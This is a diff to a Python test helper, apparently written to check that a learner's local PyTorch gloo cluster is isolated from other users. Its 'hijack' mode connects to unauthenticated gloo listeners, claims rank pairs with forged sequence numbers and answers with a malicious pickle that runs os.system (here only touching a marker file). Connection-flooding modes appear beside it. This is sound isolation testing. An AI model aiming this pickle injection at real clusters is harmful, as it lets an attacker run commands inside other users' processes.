@@ -2,7 +2,7 @@
 
     python isolation_attacker.py probe  < targets.json    # one JSON line: {attempt: result}
     python isolation_attacker.py flood N PORT... < stop    # holds connections until stdin closes
-    python isolation_attacker.py hijack SECONDS UID PID... < stop  # gloo pairs of new groups
+    python isolation_attacker.py hijack UID MARKER PID... < ports  # gloo pairs of new groups
     python isolation_attacker.py seqflood N PORT...        # N gloo hellos per port, then closed
 
 `probe` tries every path into a learner's cluster that the test names (ports, files, pids,
@@ -14,11 +14,13 @@ and waits.
 The gloo attacks (a local cluster's ranks talk over TCP listeners with no authentication; gloo
 hands an incoming connection to whichever pair waits for the 8-byte sequence number it sends
 first, and sequence numbers start at 0):
-- `hijack` watches for SECONDS for new listening sockets of user UID, in /proc/net/tcp (what
-  every user sees) and in /proc/PID/net/tcp of the ranks (their network namespace's table,
-  where this user may read it), connects to each at once and sends sequence numbers 0-3 on
-  four connections, then answers whatever the rank sends with a pickle that would run a
-  command as the learner (what `all_gather_object` would load); it prints one JSON line.
+- `hijack` is told (on stdin, by the test, the moment it opens) the port of each new gloo
+  listener of the learner's ranks: a real attacker finds them in /proc/net/tcp, with their
+  owner's uid, but on a shared machine that table also lists other people's clusters, which
+  this test must not touch. It connects to each at once and sends sequence numbers 0-3 on four
+  connections, then answers whatever the rank sends with a pickle that would run a command as
+  the learner (what `all_gather_object` would load); it says whether the port shows in its own
+  /proc/net/tcp, and prints one JSON line at the end.
 - `seqflood` sends N hellos nobody waits for (8 bytes each) to each port, closing each of its
   sockets: a rank used to keep every one for the life of its process group.
 """
@@ -206,21 +208,27 @@ class _Payload:
         return (os.system, (f"touch {self.marker}",))
 
 
-def hijack(seconds: float, uid: int, pids: list, marker: str) -> None:
+def hijack(uid: int, pids: list, marker: str) -> None:
+    """Told each new listener's port on stdin (one per line, as soon as it opens; EOF: done),
+    connect to it at once with sequence numbers 0-3 and answer what the rank sends with a
+    pickle. Also says whether each port shows in this user's own /proc/net/tcp."""
     import pickle
     import select
     own = ["/proc/net/tcp", "/proc/net/tcp6"]
     theirs = [f"/proc/{p}/net/{t}" for p in pids for t in ("tcp", "tcp6")]
-    readable = [t for t in theirs if os.access(t, os.R_OK) and _can_read(t)]
-    seen = _listeners(own + readable, uid)
-    print(json.dumps({"watching": sorted(seen), "their_tables_readable": readable}), flush=True)
-    new, connected, refused, held = set(), 0, [], []
+    print(json.dumps({"their_tables_readable": [t for t in theirs if _can_read(t)]}), flush=True)
+    told, visible, connected, refused, held = [], [], 0, [], []
     payload = pickle.dumps(_Payload(marker))
-    t0 = time.monotonic()
-    while time.monotonic() - t0 < seconds:
-        for port in sorted(_listeners(own + readable, uid) - seen):
-            seen.add(port)
-            new.add(port)
+    stdin_open = True
+    while stdin_open or held:
+        ready = select.select([sys.stdin] if stdin_open else [], [], [], 0.002)[0]
+        if ready:
+            line = sys.stdin.readline()
+            if not line:
+                stdin_open = False
+                break
+            port = int(line)
+            told.append(port)
             for seq in range(4):
                 s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
                 try:
@@ -233,16 +241,16 @@ def hijack(seconds: float, uid: int, pids: list, marker: str) -> None:
                 except OSError as exc:
                     refused.append(f"{port}/{seq}: {type(exc).__name__}")
                     s.close()
+            if port in _listeners(own, uid):
+                visible.append(port)
         for s in select.select(held, [], [], 0)[0] if held else []:
             try:                                  # whatever the rank sends: answer with the pickle
                 if s.recv(1 << 16):
                     s.send(payload)
             except OSError:
                 pass
-        time.sleep(0.002)
-    print(json.dumps({"new_listeners": sorted(new), "connected": connected,
-                      "refused": refused[:8]}), flush=True)
-    sys.stdin.read()
+    print(json.dumps({"told": told, "visible_in_our_proc_net_tcp": visible,
+                      "connected": connected, "refused": refused[:8]}), flush=True)
     for s in held:
         s.close()
 
@@ -280,7 +288,7 @@ if __name__ == "__main__":
         print(json.dumps(probe(json.loads(sys.stdin.read()))), flush=True)
         os._exit(0)                               # a store client stuck in C++ must not hold us
     elif sys.argv[1] == "hijack":
-        hijack(float(sys.argv[2]), int(sys.argv[3]), [int(p) for p in sys.argv[5:]], sys.argv[4])
+        hijack(int(sys.argv[2]), [int(p) for p in sys.argv[4:]], sys.argv[3])
     elif sys.argv[1] == "seqflood":
         seqflood(int(sys.argv[2]), [int(p) for p in sys.argv[3:]])
     else:
